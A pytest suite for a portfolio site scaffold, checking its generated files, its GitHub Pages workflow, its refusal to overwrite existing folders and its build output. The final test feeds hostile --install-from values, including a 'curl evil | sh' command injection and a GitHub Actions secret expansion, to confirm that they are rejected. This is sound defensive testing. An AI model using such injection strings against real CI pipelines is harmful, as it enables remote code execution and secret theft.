"""``portfolio-gen new``: the scaffold writes a ready portfolio and never overwrites anything."""

from __future__ import annotations

from pathlib import Path

import pytest
import yaml

from portfolio_gen import __version__
from portfolio_gen.config import load_pathways, load_profile, parse_front_matter
from portfolio_gen.errors import ConfigError
from portfolio_gen.scaffold import create_portfolio

EXPECTED = {
    ".github/workflows/pages.yml", ".gitignore", "badges/README.md", "mkdocs.yml",
    "pathways.yml", "profile.yml", "reflections/my-first-reflection.md",
}


def _mkdocs_yml(path: Path) -> dict[str, object]:
    # mkdocs.yml may carry !!python tags in general; ours must be plain YAML.
    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    assert isinstance(data, dict)
    return data


def test_creates_a_ready_portfolio(tmp_path: Path) -> None:
    dest = tmp_path / "me"
    made = create_portfolio(dest, name='Zoë "Z": O\'Brien')
    assert {p.relative_to(dest).as_posix() for p in made} == EXPECTED
    assert all(p.is_file() for p in made)
    assert (dest / "docs").is_dir() and (dest / "pins").is_dir()

    profile = load_profile(dest / "profile.yml")
    assert profile.name == 'Zoë "Z": O\'Brien'
    assert profile.identifiers == ("you@example.org",)
    assert [p.name for p in load_pathways(dest / "pathways.yml")] == ["My first goal"]
    meta, _, body = parse_front_matter(
        (dest / "reflections/my-first-reflection.md").read_text(encoding="utf-8"), "x.md")
    assert meta.title == "My first reflection" and "learner-authored" in body

    config = _mkdocs_yml(dest / "mkdocs.yml")
    assert config["site_name"] == 'Zoë "Z": O\'Brien — Portfolio'
    assert config["theme"]["font"] is False  # type: ignore[index]
    plugins = config["plugins"]
    assert isinstance(plugins, list) and plugins[0] == "search" and "portfolio" in plugins[1]


def test_workflow_builds_and_deploys_with_the_official_actions(tmp_path: Path) -> None:
    create_portfolio(tmp_path / "p")
    flow = yaml.safe_load((tmp_path / "p/.github/workflows/pages.yml").read_text())
    steps = flow["jobs"]["build"]["steps"]
    uses = [s.get("uses", "") for s in steps] + [
        s.get("uses", "") for s in flow["jobs"]["deploy"]["steps"]]
    runs = " ".join(s.get("run", "") for s in steps)
    assert any(u.startswith("actions/upload-pages-artifact@") for u in uses)
    assert any(u.startswith("actions/deploy-pages@") for u in uses)
    assert f"portfolio-gen=={__version__}" in runs and "portfolio-gen build" in runs
    assert flow["permissions"] == {"contents": "read", "pages": "write", "id-token": "write"}


def test_default_name(tmp_path: Path) -> None:
    create_portfolio(tmp_path / "p")
    assert load_profile(tmp_path / "p/profile.yml").name == "Your Name"


def test_accepts_an_empty_folder(tmp_path: Path) -> None:
    assert create_portfolio(tmp_path, name="Ada")


@pytest.mark.parametrize("existing", ["notes.txt", ".git/HEAD", "mkdocs.yml"])
def test_refuses_a_non_empty_folder_and_touches_nothing(tmp_path: Path, existing: str) -> None:
    target = tmp_path / existing
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_text("mine")
    before = sorted(p.relative_to(tmp_path) for p in tmp_path.rglob("*"))
    with pytest.raises(ConfigError, match="not empty"):
        create_portfolio(tmp_path, name="Ada")
    assert sorted(p.relative_to(tmp_path) for p in tmp_path.rglob("*")) == before
    assert target.read_text() == "mine"


def test_refuses_a_file(tmp_path: Path) -> None:
    (tmp_path / "f").write_text("x")
    with pytest.raises(ConfigError, match="not a folder"):
        create_portfolio(tmp_path / "f")


def test_the_new_portfolio_builds(tmp_path: Path) -> None:
    pytest.importorskip("portfolio_gen.mkdocs_plugin.plugin")
    from mkdocs.commands.build import build
    from mkdocs.config import load_config

    project = tmp_path / "p"
    create_portfolio(project, name="Ada Lovelace")
    site = tmp_path / "site"
    build(load_config(config_file=str(project / "mkdocs.yml"), site_dir=str(site)))
    home = (site / "index.html").read_text(encoding="utf-8")
    assert "Ada Lovelace" in home
    assert "you@example.org" not in home  # identifiers are never printed
    reflections = list((site / "reflections").rglob("index.html"))
    assert any("My first reflection" in p.read_text(encoding="utf-8") for p in reflections)
    assert not (project / "site").exists()  # built where asked, nothing left in the project


def test_workflow_falls_back_to_the_git_repository_at_the_release_tag(tmp_path: Path) -> None:
    from portfolio_gen.scaffold import SOURCE_REPOSITORY

    create_portfolio(tmp_path / "p")
    flow = yaml.safe_load((tmp_path / "p/.github/workflows/pages.yml").read_text())
    run = next(s["run"] for s in flow["jobs"]["build"]["steps"]
               if s.get("name") == "Install portfolio-gen")
    assert run.splitlines() == [
        f'python -m pip install "portfolio-gen=={__version__}" \\',
        f'  || python -m pip install "portfolio-gen @ git+{SOURCE_REPOSITORY}@v{__version__}"']


def test_install_from_is_written_as_the_only_install(tmp_path: Path) -> None:
    req = "portfolio-gen @ git+https://github.com/me/fork@main"
    create_portfolio(tmp_path / "p", install_from=req)
    flow = yaml.safe_load((tmp_path / "p/.github/workflows/pages.yml").read_text())
    runs = [s.get("run", "") for s in flow["jobs"]["build"]["steps"]]
    assert f'python -m pip install "{req}"\n' in runs


@pytest.mark.parametrize("req", ['x" && curl evil | sh && "', "${{ secrets.TOKEN }}",
                                 "a`id`", "a\nrun: evil", "a\\", "-e ."])
def test_install_from_refuses_what_a_shell_or_actions_would_expand(tmp_path: Path,
                                                                   req: str) -> None:
    with pytest.raises(ConfigError, match="--install-from"):
        create_portfolio(tmp_path / "p", install_from=req)
    assert not (tmp_path / "p").exists()
